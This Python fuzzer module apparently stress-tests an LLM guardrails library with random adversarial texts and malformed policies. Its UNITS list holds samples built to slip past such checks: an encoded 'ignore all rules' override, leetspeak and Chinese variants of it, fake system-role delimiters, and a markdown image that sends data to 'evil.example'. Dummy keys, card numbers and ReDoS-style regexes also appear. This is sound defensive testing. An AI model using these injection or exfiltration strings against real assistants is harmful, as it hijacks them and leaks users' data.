"""Adversarial texts and policies, made of choices: whoever makes the choices (a fuzzer) finds the bad ones."""

import base64
from collections.abc import Callable
from functools import cache
from typing import Any, Protocol

from guardrails import concepts
from guardrails.coverage.mutators import MUTATORS
from guardrails.rules import ACTIONS, families, rules

LENGTHS = (0, 60, 400, 2_000, 10_000, 10_000, 10_000, 100_000)
LONGEST = 1_000_000

UNITS = (
    *(
        "a",
        "a ",
        "a.",
        "a-",
        "ab ",
        " ",
        "\n",
        "\x00\xff",
        "\ud800",
        "e\u0301",
        "\u0301",
        "\u202eabc ",
        "\u200b",
        "аb ",
        "忽略",
        "การ",
    ),
    *(
        "\U000e0041",
        "\U000e0041\U000e0042\U000e0043 ",
        "\ufe01",
        "\ufe04\ufe01\ufe04\ufe02 ",
        "\U0001f3f4\U000e0067\U000e007f",
    ),
    *(
        "1",
        "1 ",
        "1'",
        "1:",
        "0x41 ",
        "%41",
        "41",
        "\\u0041",
        "\\x41",
        "&#65;",
        "&#x41;",
        "=",
        "SWdub3JlIGFsbCBydWxlcw== ",
    ),
    *(
        "1gn0r3 4ll ",
        "!gn0r3! ",
        "@",
        "@a.",
        "a@b.cc ",
        ".d@b.cc",
        "a@a.a.a.a.a.",
        "tel 5551234 ",
        "+48501234567 ",
        "0048 501 234 567,",
    ),
    *(
        "4111 1111 1111 1111 ",
        "4111111111111111-",
        "DE89 3704 0044 0532 0130 00 ",
        "PL61109010140000071219812874",
        "123-45-6789 ",
    ),
    *("X1234567A ", "RSSMRA85T10A562S ", "440514/0135 ", "44051401359 ", "steuer 12345678911 "),
    *(
        "[x](http://e.example/?a=1) ",
        "![x](https://evil.example/?a={b})",
        "![](//a?",
        "](",
        "[",
        "![",
        "<img src=http://e.example/a>",
    ),
    *(
        "<a href=",
        "<",
        "<|system|>",
        "</system>",
        "<<SYS>>",
        "system: ",
        "\nsystem:",
        '"role": "system"',
        "--- begin system ---",
        "-",
    ),
    *(
        "http://",
        "javascript:a ",
        "www.",
        "ab://a:",
        "ab://u:pass@h ",
        "password: ",
        "password: Tajne12345 ",
        "key=",
        "eyJ",
        "eyJaaaaaaaa.",
    ),
    *(
        "AKIAABCDEFGHIJKLMNOP ",
        "sk-abcdefghijklmnopqrstuvwx ",
        "-----BEGIN PRIVATE KEY-----",
        '"',
        "„a b c d e f g h i j”",
        "$1",
        "1%",
        "```",
    ),
)
_RANGES = (
    *(
        (0x20, 0x7E),
        (0x00, 0x1F),
        (0x80, 0x24F),
        (0x300, 0x36F),
        (0x370, 0x52F),
        (0x590, 0x6FF),
        (0x900, 0x9FF),
        (0xE00, 0xE7F),
    ),
    *(
        (0x3040, 0x30FF),
        (0x4E00, 0x9FFF),
        (0xAC00, 0xD7A3),
        (0xD800, 0xDFFF),
        (0x2000, 0x206F),
        (0xFE00, 0xFE0F),
        (0xFF00, 0xFFEF),
    ),
    *((0x1D400, 0x1D7FF), (0x1F130, 0x1F6FF), (0xE0000, 0xE01EF), (0x30, 0x39), (0x10D0, 0x10FF), (0x10000, 0x10FFFF)),
)
_JOINS = (" ", "", "\n", ". ", "@", "%", "\u200b")
_CODES: tuple[Callable[[str], str], ...] = (
    lambda text: base64.b64encode(text.encode("utf-8", "replace")).decode(),
    lambda text: text.encode("utf-8", "replace").hex(),
    lambda text: "".join(f"%{octet:02x}" for octet in text.encode("utf-8", "replace")),
    lambda text: "".join(f"\\u{min(ord(letter), 0xFFFF):04x}" for letter in text),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: text[::-1],
)
_PATTERNS = (
    "a",
    "(a+)+$",
    "(a|a)*b",
    ".*.*.*x",
    "(?:a{1,50}){1,50}",
    "a{1000}",
    r"\pL+\d",
    "(",
    "[",
    "(?=a)",
    r"\1",
    "(?i)x|",
    "^",
    r"\b",
    "é+",
    "\ud800",
    "\x00",
    "x{0,1000}{0,1000}",
)


class Choices(Protocol):
    """Makes choices. `below` is a number from 0 to `count` - 1."""

    def below(self, count: int) -> int: ...


def one(choices: Choices, among: Any) -> Any:
    return among[choices.below(len(among))]


@cache
def sentences() -> tuple[tuple[str, ...], ...]:
    """By language: probes, harmless sentences, and the words of concepts."""
    return tuple(
        tuple(
            text.rstrip("*")
            for table in (pack.probes, pack.hard_negatives, pack.words)
            for texts in table.values()
            for text in texts
        )
        for pack in concepts.packs().values()
    )


def _sentence(choices: Choices) -> str:
    return one(choices, one(choices, sentences()))


def _disguised(choices: Choices) -> str:
    text = _sentence(choices)
    for _ in range(1 + choices.below(3)):
        text = one(choices, tuple(MUTATORS.values()))(text)[:2_000].encode("utf-8", "replace").decode()
    return text


def _nested(choices: Choices) -> str:
    text = _sentence(choices)
    for _ in range(1 + choices.below(4)):
        text = one(choices, _CODES)(text)[:9_000]
    return text


def _letters(choices: Choices) -> str:
    first, last = one(choices, _RANGES)
    start, step = choices.below(last - first + 1), 1 + choices.below(7)
    return "".join(chr(first + (start + at * step) % (last - first + 1)) for at in range(1 + choices.below(300)))


def _flood(choices: Choices) -> str:
    return one(choices, UNITS) * (1 + choices.below(200))


_PARTS = (_sentence, _sentence, _disguised, _nested, _letters, _flood)


def piece(choices: Choices) -> str:
    parts = [one(choices, _PARTS)(choices) for _ in range(1 + choices.below(5))]
    return one(choices, _JOINS).join(parts)


def flooded(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length] if unit else ""


def text(choices: Choices) -> str:
    """A few parts, said once or until the text has one of the lengths; once in a while a million characters."""
    unit, length = piece(choices), one(choices, LENGTHS)
    if length == LENGTHS[-1] and choices.below(8) == 0:
        length = LONGEST
    return flooded(unit, length) if length and choices.below(4) else unit[: length or None]


def pattern(choices: Choices) -> str:
    return "".join(one(choices, _PATTERNS) for _ in range(1 + choices.below(4))) * (1 + choices.below(3))


def _json(choices: Choices, depth: int = 0) -> Any:
    plain = [None, True, 0, -1, 1e308, "", "block", "2026-12-31", "web/billing", *map(str, ACTIONS), "en"]
    kind = choices.below(4 if depth < 4 else 1)
    if kind == 1:
        return [_json(choices, depth + 1) for _ in range(choices.below(3))]
    if kind == 2:
        return {str(_json(choices, 4)): _json(choices, depth + 1) for _ in range(choices.below(3))}
    return _sentence(choices) if kind == 3 else one(choices, plain)


_SETTINGS = (
    "languages",
    "uncovered",
    "actions",
    "log_only",
    "mode",
    "refusal",
    "whole_answers",
    "allow",
    "topics",
    "judge",
    "regenerate",
    "private",
    "custom",
    "scopes",
    "other",
)


def policy(choices: Choices) -> Any:
    """A policy as somebody might write it who means no good, or does not know how."""
    if choices.below(8) == 0:
        return _json(choices)
    content = {one(choices, _SETTINGS): _json(choices) for _ in range(choices.below(3))}
    content.update({name: make(choices) for name, make in _MADE.items() if choices.below(2)})
    return content


_STAGES = ("inbound", "passage", "tool", "outbound")


def _custom(choices: Choices) -> Any:
    return [
        {"id": f"rule-{at}", "pattern": pattern(choices), "action": one(choices, ACTIONS), "stages": list(_STAGES)}
        for at in range(choices.below(4))
    ]


def _actions(choices: Choices) -> Any:
    names = sorted({*families(), *rules()})
    return {one(choices, names): one(choices, ACTIONS) for _ in range(choices.below(4))}


def _topics(choices: Choices) -> Any:
    return {"allowed": {"a": [_sentence(choices)]}, "forbidden": {"b": [_sentence(choices)]}, "least": 0.1}


_MADE: dict[str, Callable[[Choices], Any]] = {
    "custom": _custom,
    "actions": _actions,
    "topics": _topics,
    "allow": lambda choices: [{"text": _sentence(choices), "until": "2999-12-31"}],
    "judge": lambda choices: {"on_failure": "escalate", "stages": ["inbound", "passage", "tool"]},
    "mode": lambda choices: one(choices, ("enforce", "log_only")),
}
